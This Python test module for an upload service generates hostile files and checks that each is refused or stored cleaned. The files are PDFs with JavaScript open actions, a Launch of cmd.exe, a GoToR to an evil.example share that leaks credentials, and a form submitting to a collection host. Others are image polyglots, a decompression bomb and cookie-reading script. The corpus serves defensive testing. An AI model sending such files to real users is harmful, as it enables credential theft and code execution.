"""A corpus of hostile and awkward uploads, generated here rather than kept as binary blobs.

Each specimen is a file as an attacker (or an unlucky phone) would send it, and what Gerbang
must do with it: refuse it with a message containing ``refused`` (English), or accept it and
store a copy in which none of ``never_stored`` remains. ``slots`` says which slots it is tried
on: "document" (a requirement: PDF, JPEG or PNG) and "photo" (JPEG or PNG only).

Write the files out to look at them or try them by hand (in the browser, or with curl):

    .venv/bin/python -m gerbang.applications.tests.hostile var/hostile-uploads
"""

from __future__ import annotations

import io
import struct
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from PIL import Image, ImageDraw

PHOTO_NOT_PDF = "must be a JPEG or PNG picture, not a PDF"
NOT_A_DOCUMENT = "not a PDF, JPEG or PNG"
NOT_A_PICTURE = "not a JPEG or PNG picture"


@dataclass(frozen=True)
class Specimen:
    name: str
    make: Callable[[], bytes]
    refused: str = ""  # a part of the English refusal; empty when the file is accepted
    never_stored: tuple[bytes, ...] = ()  # accepted files: what the stored copy must not hold
    slots: tuple[str, ...] = ("document", "photo")
    note: str = ""

    @property
    def is_pdf(self) -> bool:
        return self.name.startswith("pdf")

    def refusal_on(self, slot: str) -> str:
        """What the refusal says on this slot; empty when the file is accepted there."""
        if slot == "photo" and self.is_pdf:
            return PHOTO_NOT_PDF
        if slot == "photo" and self.refused == NOT_A_DOCUMENT:
            return NOT_A_PICTURE
        return self.refused


# --- PDFs, written object by object -----------------------------------------------------------

_CONTENT = b"BT /F1 18 Tf 40 150 Td (Scan) Tj ET"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def raw_pdf(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    objects: dict[int, bytes] | None = None,
    compressed: dict[int, bytes] | None = None,
) -> bytes:
    """A one-page PDF. ``catalog`` and ``page`` are added to those dictionaries; ``objects``
    are further objects by number (from 6); ``compressed`` objects go into an object stream
    (FlateDecode), and then the cross-reference is a stream too (PDF 1.5), as Acrobat writes."""
    body: dict[int, bytes] = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page + b" >>",
        4: b"<< /Length %d >>\nstream\n" % len(_CONTENT) + _CONTENT + b"\nendstream",
        5: _FONT,
        **(objects or {}),
    }
    compressed = compressed or {}
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, text in sorted(body.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    if not compressed:
        size = max(body) + 1
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
        return bytes(out)
    # An object stream holding the compressed objects, and a cross-reference stream.
    stream_number = max([*body, *compressed]) + 1
    header, data = b"", b""
    for number, text in sorted(compressed.items()):
        header += b"%d %d " % (number, len(data))
        data += text + b"\n"
    packed = zlib.compress(header + data)
    offsets[stream_number] = len(out)
    out += (
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (stream_number, len(compressed), len(header), len(packed))
        + packed
        + b"\nendstream\nendobj\n"
    )
    xref_number = stream_number + 1
    offsets[xref_number] = len(out)
    size = xref_number + 1
    rows = b""
    index_in_stream = {number: i for i, number in enumerate(sorted(compressed))}
    for number in range(size):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif number in index_in_stream:
            rows += struct.pack(">BIH", 2, stream_number, index_in_stream[number])
        else:
            rows += struct.pack(">BIH", 0, 0, 65535)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref_number, size, len(rows))
        + rows
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    )
    return bytes(out)


_ALERT = b"(app.alert\\('hi'\\))"


def _pdf_script_in_object_stream() -> bytes:
    return raw_pdf(catalog=b"/OpenAction 6 0 R", compressed={6: b"<< /S /JavaScript /JS " + _ALERT + b" >>"})


def _pdf_script_as_compressed_stream() -> bytes:
    code = zlib.compress(b"app.launchURL('http://evil.example/', true);")
    return raw_pdf(
        catalog=b"/OpenAction << /S /JavaScript /JS 6 0 R >>",
        objects={6: b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(code) + code + b"\nendstream"},
    )


def _pdf_link_annotation() -> bytes:
    return raw_pdf(
        page=b"/Annots [6 0 R]",
        objects={
            6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /Border [0 0 0] "
            b"/A << /S /URI /URI (http://phish.example/login) >> >>"
        },
    )


def _pdf_embedded_file() -> bytes:
    payload = b"MZ\x90\x00fake executable"
    return raw_pdf(
        catalog=b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >>",
        objects={
            6: b"<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>",
            7: b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(payload) + payload + b"\nendstream",
        },
    )


def _pdf_rich_media() -> bytes:
    return raw_pdf(
        page=b"/Annots [6 0 R]",
        objects={
            6: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent 7 0 R >>",
            7: b"<< /Assets << /Names [] >> >>",
        },
    )


def _pdf_filled_form_with_actions() -> bytes:
    """A filled form: the field's look must stay, its actions must go."""
    look = b"BT /F1 12 Tf 2 4 Td (Budi Santoso) Tj ET"
    return raw_pdf(
        catalog=b"/AcroForm << /Fields [6 0 R] >>",
        page=b"/Annots [6 0 R]",
        objects={
            6: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Budi Santoso) /Rect [20 20 220 44] "
            b"/AP << /N 7 0 R >> /AA << /K << /S /Named /N /Print >> >> >>",
            7: b"<< /Type /XObject /Subtype /Form /BBox [0 0 200 24] /Resources << /Font << /F1 5 0 R >> >> "
            b"/Length %d >>\nstream\n" % len(look) + look + b"\nendstream",
        },
    )


def _pdf_incremental_update_with_script() -> bytes:
    """A clean file with an update appended that adds a script on opening."""
    clean = raw_pdf()
    xref_at = int(clean.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    update_at = len(clean)
    update = (
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS "
        + _ALERT
        + b" >> >>\nendobj\n"
    )
    xref = len(clean) + len(update)
    tail = (
        b"xref\n0 1\n0000000000 65535 f \n1 1\n%010d 00000 n \n" % update_at
        + b"trailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (xref_at, xref)
    )
    return clean + update + tail


PDFS = [
    Specimen(
        "pdf-open-action-javascript",
        lambda: raw_pdf(catalog=b"/OpenAction << /S /JavaScript /JS " + _ALERT + b" >>"),
        refused="scripts (JavaScript)",
    ),
    Specimen(
        "pdf-hex-escaped-names",
        lambda: raw_pdf(catalog=b"/OpenAction << /S /J#61vaScr#69pt /J#53 " + _ALERT + b" >>"),
        refused="scripts (JavaScript)",
        note="/J#61vaScript is /JavaScript: names are compared after decoding",
    ),
    Specimen("pdf-script-in-object-stream", _pdf_script_in_object_stream, refused="scripts (JavaScript)"),
    Specimen("pdf-script-as-compressed-stream", _pdf_script_as_compressed_stream, refused="scripts"),
    Specimen(
        "pdf-page-additional-action",
        lambda: raw_pdf(page=b"/AA << /O << /S /JavaScript /JS " + _ALERT + b" >> >>"),
        refused="scripts (JavaScript)",
    ),
    Specimen(
        "pdf-names-javascript-tree",
        lambda: raw_pdf(
            catalog=b"/Names << /JavaScript << /Names [(init) << /S /JavaScript /JS " + _ALERT + b" >>] >> >>"
        ),
        refused="scripts (JavaScript)",
    ),
    Specimen(
        "pdf-incremental-update-script", _pdf_incremental_update_with_script, refused="scripts (JavaScript)"
    ),
    Specimen(
        "pdf-open-action-launch",
        lambda: raw_pdf(catalog=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        refused="commands that open programs or other files",
    ),
    Specimen(
        "pdf-open-action-remote-goto",
        lambda: raw_pdf(
            catalog=b"/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"
        ),
        refused="commands that open programs or other files",
        note="GoToR to a network share leaks the viewer's Windows credentials",
    ),
    Specimen(
        "pdf-open-action-submit-form",
        lambda: raw_pdf(catalog=b"/OpenAction << /S /SubmitForm /F (http://collect.example/) /Flags 4 >>"),
        refused="forms that send or fetch data",
    ),
    Specimen(
        "pdf-xfa-form",
        lambda: raw_pdf(catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>", objects={6: b"(<xdp:xdp/>)"}),
        refused="forms that send or fetch data",
    ),
    Specimen("pdf-embedded-file", _pdf_embedded_file, refused="attached files"),
    Specimen("pdf-rich-media", _pdf_rich_media, refused="embedded video, sound or other media"),
    Specimen(
        "pdf-open-action-uri",
        lambda: raw_pdf(catalog=b"/OpenAction << /S /URI /URI (http://tracker.example/opened) >>"),
        never_stored=(b"tracker.example", b"/OpenAction", b"/URI"),
        note="accepted: only a copy rebuilt from the pages is kept, without the action",
    ),
    Specimen(
        "pdf-link-annotation",
        _pdf_link_annotation,
        never_stored=(b"phish.example", b"/Link", b"/URI"),
    ),
    Specimen(
        "pdf-filled-form-with-actions",
        _pdf_filled_form_with_actions,
        never_stored=(b"/AA", b"/Named", b"/AcroForm"),
        note="the filled-in look is kept (its appearance stream), the field's actions are not",
    ),
]


# --- Pictures ----------------------------------------------------------------------------------


def photo(fmt: str = "JPEG", size: tuple[int, int] = (600, 800)) -> bytes:
    image = Image.new("RGB", size, "white")
    draw = ImageDraw.Draw(image)
    width, height = size
    draw.ellipse((width * 0.3, height * 0.2, width * 0.7, height * 0.6), fill=(120, 80, 60))
    draw.rectangle((width * 0.2, height * 0.65, width * 0.8, height), fill=(30, 30, 120))
    out = io.BytesIO()
    image.save(out, fmt)
    return out.getvalue()


def _zip_archive() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.js", "alert(1)")
    return out.getvalue()


def _with_comment(jpeg: bytes) -> bytes:
    """A JPEG with a comment segment (COM) right after its start."""
    comment = b"<script>alert(1)</script>"
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + jpeg[2:]


def _bomb() -> bytes:
    out = io.BytesIO()
    Image.new("1", (30_000, 30_000)).save(out, "PNG")
    return out.getvalue()


PICTURES = [
    Specimen("jpeg-cut-off", lambda: photo()[: len(photo()) // 2], refused="cut off"),
    Specimen("png-cut-off", lambda: photo("PNG")[:-40], refused="cut off"),
    Specimen(
        "jpeg-with-zip-appended",
        lambda: photo() + _zip_archive(),
        never_stored=(b"payload.js", b"PK\x03\x04"),
        note="a JPEG/ZIP polyglot (and phones' motion photos) carry data after the picture: dropped",
    ),
    Specimen(
        "png-with-data-after-iend",
        lambda: photo("PNG") + b"<script>alert(1)</script>",
        never_stored=(b"<script>",),
    ),
    Specimen("png-decompression-bomb", _bomb, refused="too many pixels"),
    Specimen("jpeg-with-html-comment", lambda: _with_comment(photo()), never_stored=(b"<script>",)),
]


# --- Other files -------------------------------------------------------------------------------

OTHERS = [
    Specimen(
        "windows-executable-named-pdf", lambda: b"MZ\x90\x00\x03" + b"\x00" * 500, refused=NOT_A_DOCUMENT
    ),
    Specimen(
        "html-named-jpg",
        lambda: b"<html><script>alert(document.cookie)</script></html>",
        refused=NOT_A_DOCUMENT,
    ),
    Specimen(
        "svg-with-script",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        refused=NOT_A_DOCUMENT,
    ),
    Specimen("empty-file", lambda: b"", refused="empty"),
    Specimen("pdf-cut-off", lambda: raw_pdf()[:200], refused="cut off"),
    Specimen(
        "pdf-garbage-after-header",
        lambda: b"%PDF-1.7\n" + b"\x00garbage" * 50 + b"\n%%EOF\n",
        refused="damaged",
    ),
    Specimen(
        "pdf-too-many-objects",
        lambda: raw_pdf(objects={6: b"[" + b"[] " * 30_000 + b"]"}),
        refused="too complex",
        note="bounds the work of reading the object graph",
    ),
    Specimen("pdf-plain-scan", raw_pdf, note="a clean scan: accepted as a document, refused as the photo"),
]

CORPUS = [*PDFS, *PICTURES, *OTHERS]


def main(folder: str) -> None:
    target = Path(folder)
    target.mkdir(parents=True, exist_ok=True)
    for specimen in CORPUS:
        extension = "pdf" if specimen.is_pdf else specimen.name.split("-")[0]
        path = target / f"{specimen.name}.{extension}"
        path.write_bytes(specimen.make())
        outcomes = [f"{slot}: {specimen.refusal_on(slot) or 'accepted, cleaned'}" for slot in specimen.slots]
        print(f"{path}  ({'; '.join(outcomes)})")


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "var/hostile-uploads")
